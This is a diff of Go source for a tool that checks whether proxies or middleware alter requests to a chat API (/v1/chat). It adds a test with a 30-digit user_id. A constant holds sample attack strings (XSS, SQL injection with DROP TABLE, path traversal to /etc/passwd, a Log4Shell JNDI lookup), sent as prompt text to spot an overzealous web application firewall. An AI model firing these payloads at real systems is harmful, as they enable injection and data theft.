@@ -18,7 +18,7 @@ import (
 var requestChecks = []check{
 	{name: checkReach, run: (*stack).checkReach, chats: 1},
 	{name: checkKey, needs: []string{checkReach}, run: (*stack).checkKey, chats: 1},
-	{name: checkBody, needs: []string{checkReach, checkKey}, run: (*stack).checkBody, chats: 6 + 1, asks: 1},
+	{name: checkBody, needs: []string{checkReach, checkKey}, run: (*stack).checkBody, chats: 7 + 1, asks: 1},
 	{name: checkErrors, needs: []string{checkReach, checkKey}, run: (*stack).checkErrors, chats: 5},
 	{name: checkHeaders, needs: []string{checkReach, checkKey, checkBody}, probed: true, run: (*stack).checkHeaders, chats: 1, asks: 1},
 	{name: checkList, needs: []string{checkReach, checkKey}, run: (*stack).checkList},
@@ -156,62 +156,53 @@ func (s *stack) checkKey(ctx context.Context, r *Result) error {
 // attacks are what web application firewalls look for, and what people ask models about.
 const attacks = "Explain these lines: <script>alert(1)</script> ' UNION SELECT name FROM users; DROP TABLE users; -- ../../etc/passwd ${jndi:ldap://example.com/a}"
 
-// checkBody sends chats without the field stream: the response says what the API has read, and
-// no model is asked. Bodies of other checks have up to 24 KiB, so that a bound above this is no
-// reason to skip them.
-func (s *stack) checkBody(ctx context.Context, r *Result) error {
-	const chat, most = 32 << 10, 900 << 10 // below DefaultMaxBodyBytes, and below what proxies take
+// A bodyCase is a body without the field stream, so that no model is asked.
+type bodyCase struct {
+	what, kind    string // kind is the Content-Type
+	body          string
+	chunked       bool
+	aside         bool   // no other check sends such a body
+	effect, cause string // of each response but that of the API; "": they depend on the response
+}
+
+// fieldMissing is what the API replies to all of them.
+const fieldMissing = `{"detail":[{"loc":["body","stream"],"msg":"field required","type":"value_error.missing"}]}`
+
+// bodies has up to 32 KiB where other checks send such bodies, too: those have up to 24 KiB, so that a
+// bound above this is no reason to skip them.
+func (s *stack) bodies() []bodyCase {
+	const long, longest = 32 << 10, 900 << 10 // below DefaultMaxBodyBytes, and below what proxies take
 	const digits = "0123456789abcdef"
-	for _, c := range []struct {
-		what, kind string
-		prompt     string
-		chunked    bool
-		aside      bool // no other check sends such a body
-	}{
-		{"a body of some bytes", "application/json", "Grüße", false, false},
-		{"a body of some bytes, with the Content-Type that curl sends", "application/x-www-form-urlencoded", "Grüße", false, true},
-		{"a body without Content-Length", "application/json", "Grüße", true, true},
-		{"a body with lines of attacks", "application/json", attacks, false, true},
-		{"a body of 32 KiB", "application/json", strings.Repeat(digits, chat/len(digits)), false, false},
-		{"a body of 900 KiB", "application/json", strings.Repeat(digits, most/len(digits)), false, true},
-	} {
-		body := unescaped(map[string]string{"bot_slug": s.bot, "prompt": c.prompt})
-		got := s.do(ctx, request{path: "/v1/chat", body: body, chunked: c.chunked, header: map[string]string{"Content-Type": c.kind}})
-		const want = `{"detail":[{"loc":["body","stream"],"msg":"field required","type":"value_error.missing"}]}`
-		if got.status == http.StatusUnprocessableEntity && sameJSON(got.body, want) {
+	prompt := func(text string) string { return unescaped(map[string]any{"bot_slug": s.bot, "prompt": text}) }
+	integer := json.RawMessage(strings.Repeat("1234567890", 3)) // for the decoders of most languages, a number with a fraction
+	return []bodyCase{
+		{what: "a body of some bytes", kind: "application/json", body: prompt("Grüße")},
+		{what: "a body of some bytes, with the Content-Type that curl sends", kind: "application/x-www-form-urlencoded", body: prompt("Grüße"), aside: true},
+		{what: "a body without Content-Length", kind: "application/json", body: prompt("Grüße"), chunked: true, aside: true},
+		{what: "a body with lines of attacks", kind: "application/json", body: prompt(attacks), aside: true,
+			effect: "chats about code, web pages or databases fail",
+			cause:  "a web application firewall takes the text of a prompt for an attack: leave the bodies of these paths out of its rules"},
+		{what: "a body with an integer of 30 digits as user_id", kind: "application/json", aside: true,
+			body:   unescaped(map[string]any{"bot_slug": s.bot, "prompt": "Grüße", "user_id": integer}),
+			effect: "ids that are large integers become others, or are rejected",
+			cause:  "middleware decodes bodies and encodes them again, with numbers that have room for 16 digits (any in Go, JSON.parse in JavaScript): pass the bytes on as they are, or decode with json.Decoder.UseNumber"},
+		{what: "a body of 32 KiB", kind: "application/json", body: prompt(strings.Repeat(digits, long/len(digits)))},
+		{what: "a body of 900 KiB", kind: "application/json", body: prompt(strings.Repeat(digits, longest/len(digits))), aside: true},
+	}
+}
+
+// checkBody sends chats without the field stream: the response says what the API has read.
+func (s *stack) checkBody(ctx context.Context, r *Result) error {
+	for _, c := range s.bodies() {
+		got := s.do(ctx, request{path: "/v1/chat", body: c.body, chunked: c.chunked, header: map[string]string{"Content-Type": c.kind}})
+		if got.isFieldMissing() {
 			continue
 		}
-		f := Finding{
-			Sent:    fmt.Sprintf("POST /v1/chat, %s (%s); that it has no field stream is on purpose: a 422 must say so, and no model is asked", c.what, c.kind),
-			Arrived: got.show("Content-Type"),
-			aside:   c.aside,
-		}
-		end := got.endOfBody()
-		switch {
-		case c.prompt == attacks:
-			f.Effect = "chats about code, web pages or databases fail"
-			f.Cause = "a web application firewall takes the text of a prompt for an attack: leave the bodies of these paths out of its rules"
-		case got.status == http.StatusRequestEntityTooLarge && s.kit == nil && got.detail() == "Request body too large":
+		if got.status == http.StatusRequestEntityTooLarge && s.kit == nil && got.detail() == "Request body too large" {
 			r.note("MaxBodyBytes is below 900 KiB")
 			continue
-		case end > 0 && end < len(body):
-			f.Arrived += fmt.Sprintf("; so the body ends after %d bytes of %d", end, len(body))
-			f.Effect = "long conversations fail, although they are below MaxBodyBytes and valid"
-			f.Cause = fmt.Sprintf("middleware or a proxy reads up to %s of a body (an audit or log of bodies, with io.LimitReader), puts back only what it has read, and loses the rest: put back io.MultiReader of both", bytesText(int64(end)))
-		case got.status == http.StatusRequestEntityTooLarge || len(c.prompt) > 1000:
-			f.Effect = "long conversations fail, although they are below MaxBodyBytes"
-			f.Cause = "a proxy or middleware bounds the body below MaxBodyBytes (client_max_body_size, http.MaxBytesReader), or cannot write it to its disk"
-		case got.status == http.StatusUnsupportedMediaType:
-			f.Effect = "clients that send another Content-Type, such as curl, are rejected"
-			f.Cause = "middleware checks the Content-Type, which the API ignores"
-		case c.chunked:
-			f.Effect = "clients that stream their body fail"
-			f.Cause = "a proxy or middleware needs a Content-Length, or drops a body without one"
-		default:
-			f.Effect = "chats are rejected, or are not those that the client has sent"
-			f.Cause = "middleware has read the body before the API did (a logger, r.ParseForm or r.FormValue, a check of signatures), or changes it"
 		}
-		if r.found(f); !f.aside {
+		if r.found(c.finding(got)); !c.aside {
 			return nil
 		}
 	}
@@ -219,6 +210,43 @@ func (s *stack) checkBody(ctx context.Context, r *Result) error {
 		return nil
 	}
 	return s.checkPrompt(ctx, r)
+}
+
+// isFieldMissing reports whether the API has read the body of a bodyCase as it was sent.
+func (a *answer) isFieldMissing() bool {
+	return a.status == http.StatusUnprocessableEntity && sameJSON(a.body, fieldMissing)
+}
+
+// finding says why the response is not that of the API.
+func (c bodyCase) finding(got *answer) Finding {
+	f := Finding{
+		Sent:    fmt.Sprintf("POST /v1/chat, %s (%s); that it has no field stream is on purpose: a 422 must say so, and no model is asked", c.what, c.kind),
+		Arrived: got.show("Content-Type"),
+		Effect:  c.effect,
+		Cause:   c.cause,
+		aside:   c.aside,
+	}
+	end := got.endOfBody()
+	switch {
+	case c.cause != "":
+	case end > 0 && end < len(c.body):
+		f.Arrived += fmt.Sprintf("; so the body ends after %d bytes of %d", end, len(c.body))
+		f.Effect = "long conversations fail, although they are below MaxBodyBytes and valid"
+		f.Cause = fmt.Sprintf("middleware or a proxy reads up to %s of a body (an audit or log of bodies, with io.LimitReader), puts back only what it has read, and loses the rest: put back io.MultiReader of both", bytesText(int64(end)))
+	case got.status == http.StatusRequestEntityTooLarge || len(c.body) > 1000:
+		f.Effect = "long conversations fail, although they are below MaxBodyBytes"
+		f.Cause = "a proxy or middleware bounds the body below MaxBodyBytes (client_max_body_size, http.MaxBytesReader), or cannot write it to its disk"
+	case got.status == http.StatusUnsupportedMediaType:
+		f.Effect = "clients that send another Content-Type, such as curl, are rejected"
+		f.Cause = "middleware checks the Content-Type, which the API ignores"
+	case c.chunked:
+		f.Effect = "clients that stream their body fail"
+		f.Cause = "a proxy or middleware needs a Content-Length, or drops a body without one"
+	default:
+		f.Effect = "chats are rejected, or are not those that the client has sent"
+		f.Cause = "middleware has read the body before the API did (a logger, r.ParseForm or r.FormValue, a check of signatures), or changes it"
+	}
+	return f
 }
 
 // endOfBody returns how many bytes of a request's body the API has read before it ended within a
